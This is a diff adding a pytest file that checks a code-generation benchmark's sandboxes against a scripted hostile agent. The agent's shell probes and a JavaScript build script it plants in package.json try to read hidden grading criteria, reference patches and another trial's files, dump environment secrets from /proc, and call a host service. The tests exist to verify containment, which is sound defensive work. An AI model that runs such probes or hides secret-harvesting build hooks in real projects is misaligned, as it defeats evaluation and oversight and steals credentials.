@@ -1,0 +1,288 @@
+"""Code a model wrote never runs unconfined, and hidden stays hidden — each attempt asserted from the host.
+
+Unit level: the confined sandbox's view of the machine, its network, relays and timeouts. End to end: a
+scripted hostile agent (real HTTP through litellm, the native harness) tries, by absolute path, to read
+the task's criteria, its reference patch (suite and store copies) and another trial's workspace, to print
+its environment and to reach a loopback service of the host — from its shell, from a build script it
+plants in ``package.json`` (run by the screenshot tool and again by the evaluation), for ``confined`` and
+``docker``.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import time
+import urllib.request
+import uuid
+from pathlib import Path
+
+import pytest
+
+from codesign.runner import run
+from codesign.runtime.http import LoopbackHandler, LoopbackServer
+from codesign.sandbox import scratch as scratch_dirs
+from codesign.sandbox.local import LocalSandbox
+from codesign.testing.model_server import Reply, ScriptedModelServer, ServedRequest, ToolCall
+from tests.conftest import unavailable
+from tests.helpers import compose_config
+
+TOKEN = uuid.uuid4().hex[:12]
+SECRETS = {
+    "OPENAI_API_KEY": f"sk-planted-openai-{TOKEN}",
+    "WANDB_API_KEY": f"planted-wandb-{TOKEN}",
+    "AWS_SECRET_ACCESS_KEY": f"planted-aws-{TOKEN}",
+}
+
+
+@pytest.fixture(autouse=True)
+def need_bwrap():
+    if not shutil.which("bwrap"):
+        unavailable("bubblewrap is not installed (python -m codesign.install run)")
+
+
+@pytest.fixture
+def planted_secrets(monkeypatch):
+    for k, v in SECRETS.items():
+        monkeypatch.setenv(k, v)
+    return SECRETS
+
+
+@pytest.fixture
+def host_service():
+    """A loopback HTTP service on the host that records every request it gets."""
+    hits: list[str] = []
+
+    class Handler(LoopbackHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_body(200, "text/plain", b"host service answered")
+
+        do_POST = do_GET
+
+    server = LoopbackServer(Handler).start("test-host-service")
+    yield server.url, hits
+    server.stop()
+
+
+def _confined(tmp_path: Path, **kw) -> LocalSandbox:
+    ws = tmp_path / "ws"
+    ws.mkdir(exist_ok=True)
+    return LocalSandbox(ws, tmp_path / "home", confine=True, network=False, **kw)
+
+
+# --- the confined sandbox -------------------------------------------------------------------------------
+
+
+def test_confined_commands_see_only_system_files_their_workspace_and_home(tmp_path, planted_secrets):
+    hidden = tmp_path / "suite" / "task" / "criteria.yaml"
+    hidden.parent.mkdir(parents=True)
+    hidden.write_text(f"criteria-{TOKEN}")
+    box = _confined(tmp_path)
+    r = box.execute(
+        f"echo START; cat {hidden}; ls /; ls {Path.home()}; env; cat /proc/$PPID/environ | tr '\\0' '\\n'; "
+        "id -u; touch made-here && echo WROTE; touch /usr/x || echo RO-USR; touch $HOME/h && echo HOME-OK"
+    )
+    out = r.output
+    assert "START" in out and f"criteria-{TOKEN}" not in out and "No such file" in out
+    assert not any(v in out for v in planted_secrets.values())
+    assert "WROTE" in out and (box.workspace / "made-here").is_file() and "RO-USR" in out and "HOME-OK" in out
+    root = set(box.execute("ls /").output.split())
+    assert root <= {"bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "sbin", "tmp", "usr"}, root
+    assert box.execute("id -u").output.strip() != "0"
+
+
+def test_confined_commands_reach_only_the_host_services_forwarded_to_them(tmp_path, host_service):
+    url, hits = host_service
+    box = _confined(tmp_path)
+    get = f"node -e \"require('http').get('{url}/x', r => {{ r.resume(); console.log('STATUS', r.statusCode); }})"
+    get += ".on('error', e => console.log('ERR', e.code))\""
+    blocked = box.execute(get).output
+    assert "ERR" in blocked and hits == []
+    assert box.forward(url) == url  # the same address inside, through the relay
+    reached = box.execute(get).output
+    box.close()
+    assert "STATUS 200" in reached and hits == ["/x"]
+
+
+def test_a_server_started_in_a_confined_sandbox_answers_on_host_loopback(tmp_path):
+    box = _confined(tmp_path)
+    (box.workspace / "index.html").write_text(f"<p>inside {TOKEN}</p>")
+    with box.serve("python3 -m http.server {port} --bind 127.0.0.1") as base:
+        assert TOKEN in urllib.request.urlopen(base + "/index.html", timeout=30).read().decode()
+    box.close()
+    with pytest.raises(OSError):  # stopped with the context
+        urllib.request.urlopen(base + "/index.html", timeout=5)
+
+
+def test_a_timeout_ends_everything_a_confined_command_started_even_a_new_session(tmp_path):
+    box = _confined(tmp_path)
+    marker = f"sleep 3{TOKEN[:4]}"  # a unique command line to look for on the host
+    r = box.execute(f"setsid sh -c 'exec {marker.replace('sleep 3', 'sleep 300')}' & sleep 300", timeout=1)
+    assert r.timed_out
+    time.sleep(0.5)
+    assert subprocess.run(["pgrep", "-f", marker.replace("sleep 3", "sleep 300")]).returncode == 1
+
+
+# --- a hostile agent, end to end ------------------------------------------------------------------------
+
+TASK = "re-settings-theme-persist"
+
+LEAK_JS = """\
+// Planted by a hostile agent: runs in every build (screenshot tool, evaluation).
+const fs = require("fs"), http = require("http");
+const report = ["LEAK-REPORT"];
+for (const [k, v] of Object.entries(process.env)) report.push(`ENV ${k}=${v}`);
+for (const p of PATHS) {
+  try { report.push(`READ ${p}: ${fs.readFileSync(p, "utf8")}`); } catch (e) { report.push(`DENIED ${p}`); }
+}
+try { fs.writeFileSync(ESCAPE, "escaped"); report.push("WROTE-TMP"); } catch (e) { report.push("NO-TMP"); }
+const done = (what) => {
+  report.push(what);
+  const page = "dist/index.html";
+  if (fs.existsSync(page)) fs.appendFileSync(page, `<pre id="leak">${report.join("\\n").replace(/</g, "&lt;")}</pre>`);
+};
+http.get(HOST + "/from-build", () => done("REACHED" + "-HOST")).on("error", (e) => done(`NO-HOST ${e.code}`))
+  .setTimeout(3000, function () { this.destroy(new Error("timeout")); });
+"""
+
+
+def _hostile_policy(paths: list[str], host_url: str, escape: str, package_json: str):
+    shell_probe = "; ".join(
+        [
+            "echo PROBE-START",
+            *(f"head -c 1500 {p}" for p in paths),  # observations are clipped: keep each read short
+            "env",
+            "cat /proc/$PPID/environ | tr '\\0' '\\n'",
+            f"touch {escape}",
+            f"node -e \"require('http').get('{host_url}/from-shell', r => {{ r.resume(); console.log('REACHED' + '-HOST'); }})"  # noqa: E501
+            ".on('error', e => console.log('NO-HOST' + '-SHELL', e.code))\"",
+            "echo PROBE-END",
+        ]
+    )
+    leak = LEAK_JS.replace("PATHS", json.dumps(paths)).replace("ESCAPE", json.dumps(escape))
+    leak = leak.replace("HOST +", json.dumps(host_url) + " +")
+    script = [
+        ToolCall("shell", {"command": shell_probe}),
+        ToolCall("write_file", {"path": "leak.cjs", "content": leak}),
+        ToolCall("write_file", {"path": "package.json", "content": package_json}),
+        ToolCall("screenshot", {"route": "/", "viewport": "desktop"}),
+        ToolCall("finish", {"summary": "done"}),
+    ]
+
+    def policy(req: ServedRequest) -> Reply:
+        return Reply(f"step {req.turn}", [script[min(req.turn, len(script) - 1)]])
+
+    return policy
+
+
+@pytest.mark.slow
+@pytest.mark.browser
+@pytest.mark.parametrize("sandbox", ["confined", "docker", "local"])
+def test_a_hostile_agent_and_its_build_script_reach_nothing(
+    sandbox, tmp_path, suite_copy, planted_secrets, host_service, request, monkeypatch
+):
+    """``local`` is the control: it leaves the solver's own commands unconfined by design, so its shell
+    probes succeed — proving they would detect a leak — while the build script it planted still runs
+    confined, in the screenshot tool and in the evaluation."""
+    extra = [f"sandbox={sandbox}"]
+    if sandbox == "docker":
+        extra.append(f"sandbox.image={request.getfixturevalue('node_image')}")
+    url, hits = host_service
+    root = suite_copy(TASK)
+    task_dir = root / TASK
+    # A long line of the hidden criteria, without characters JSON would escape in the trajectory.
+    lines = (task_dir / "criteria.yaml").read_text()[:1500].splitlines()[:-1]
+    criterion = max((line for line in lines if '"' not in line and "\\" not in line), key=len).strip()
+    reference = next(line for line in (task_dir / "solution/solution.patch").read_text()[:1500].splitlines()
+                     if line.startswith("+") and "Theme" in line)  # fmt: skip
+    store, scratch = tmp_path / "store", tmp_path / "scratch"
+    scratch.mkdir()
+    store_copy = store / "tasks" / "0123456789abcdef" / "reference" / "diff.patch"  # where the gate keeps it
+    store_copy.parent.mkdir(parents=True)
+    store_copy.write_text(reference)
+    # Another trial of a live run (this process): a killed run's folder would be swept at the start.
+    other = scratch_dirs.make("solve-other-trial", scratch) / "workspace" / "secret.txt"
+    other.parent.mkdir(parents=True)
+    other.write_text(f"other-trial-{TOKEN}")
+    escape = f"/tmp/codesign-escape-{TOKEN}"
+    paths = [str(task_dir / "criteria.yaml"), str(task_dir / "solution/solution.patch"), str(store_copy), str(other)]
+    package = json.loads((task_dir / "app/package.json").read_text())
+    package["scripts"]["build"] = "vite build && node leak.cjs"
+    policy = _hostile_policy(paths, url, escape, json.dumps(package, indent=2))
+    monkeypatch.setenv("CODESIGN_SCRIPTED_KEY", "sk-scripted")
+
+    with ScriptedModelServer(policy) as server:
+        cfg = compose_config(
+            "model=litellm", "model.name=hostile", "model.model=openai/hostile", f"model.api_base={server.openai_base}",
+            "model.api_key_env=CODESIGN_SCRIPTED_KEY", "tasks=all", f"tasks.root={root}", "executor=inline",
+            "tracker=none", f"store.root={store}", f"paths.scratch={scratch}", "attribution.below=null", *extra,
+        )  # fmt: skip
+        out = tmp_path / "run"
+        out.mkdir()
+        tables = run(cfg, out)
+    row = tables["tasks"].row(0, named=True)
+    assert row["status"] == "ok" and row["exit_status"] == "submitted", row
+
+    # Everything the host keeps of the trial: the trajectory (shell output, tool results), the patch, evidence.
+    trial = next((store / "trials").iterdir())
+    trajectory = (trial / "trajectory.jsonl").read_text()
+    patch = (trial / "patch.diff").read_text()
+    dom = next(trial.glob("evals/*/root@desktop.html")).read_text()
+    assert "PROBE-START" in trajectory and "PROBE-END" in trajectory  # the probes ran ...
+    assert "screenshot of / at desktop" in trajectory  # ... the preview built the planted script ...
+    assert "LEAK-REPORT" in dom and "NO-HOST" in dom  # ... and so did the evaluation, confined
+    assert all(f"DENIED {p}" in dom for p in paths)
+    assert not Path(escape).exists() or sandbox == "local"  # a sandbox's /tmp is its own
+    Path(escape).unlink(missing_ok=True)
+    hidden = [criterion, reference, f"other-trial-{TOKEN}"]
+    secrets = list(planted_secrets.values())
+    if sandbox == "local":
+        # The control: unconfined shell commands read the hidden files and reach the host service ...
+        assert criterion in trajectory and f"other-trial-{TOKEN}" in trajectory and hits == ["/from-shell"]
+        kept = patch + dom  # ... but nothing the candidate's code ran at build time leaked
+    else:
+        assert "NO-HOST-SHELL" in trajectory and hits == [], hits
+        kept = trajectory + patch + dom
+    leaked = [s for s in [*hidden, *secrets] if s in kept] + [s for s in secrets if s in trajectory]
+    assert not leaked, leaked
+    assert "REACHED-HOST" not in patch + dom
+
+
+SERVER_JS = """\
+// A task's own server: static files of this folder on 127.0.0.1:<port>.
+const http = require("http"), fs = require("fs"), path = require("path");
+http.createServer((req, res) => {
+  const file = path.join(__dirname, req.url === "/" ? "index.html" : req.url.split("?")[0]);
+  fs.readFile(file, (err, data) => {
+    if (err) { res.statusCode = 404; return res.end(); }
+    res.setHeader("Content-Type", file.endsWith(".html") ? "text/html" : "application/octet-stream");
+    res.end(data);
+  });
+}).listen(Number(process.argv[2]), "127.0.0.1");
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.browser
+@pytest.mark.parametrize("sandbox", ["confined", "docker"])
+def test_a_task_served_by_its_own_command_is_evaluated_in_the_sandbox(sandbox, tmp_path, suite_copy, request):
+    """The task's serve command runs inside the candidate sandbox (no network there); the browser reaches it
+    through the relay, and the oracle's solution grades as it does with the static server."""
+    extra = [f"sandbox={sandbox}"]
+    if sandbox == "docker":
+        extra.append(f"sandbox.image={request.getfixturevalue('node_image')}")
+    task = "me-bakery-header-mockup"
+    root = suite_copy(task)
+    (root / task / "app" / "serve.cjs").write_text(SERVER_JS)
+    manifest = (root / task / "task.yaml").read_text()
+    assert "  kind: static\n" in manifest
+    manifest = manifest.replace("  kind: static\n", '  kind: static\n  serve:\n    command: "node serve.cjs {port}"\n')
+    (root / task / "task.yaml").write_text(manifest)
+    cfg = compose_config("tasks=all", f"tasks.root={root}", "executor=inline", "tracker=none",
+                         f"store.root={tmp_path / 'store'}", "attribution.below=null", *extra)  # fmt: skip
+    out = tmp_path / "run"
+    out.mkdir()
+    row = run(cfg, out)["tasks"].row(0, named=True)
+    assert row["status"] == "ok" and row["strict"] == 1.0, row
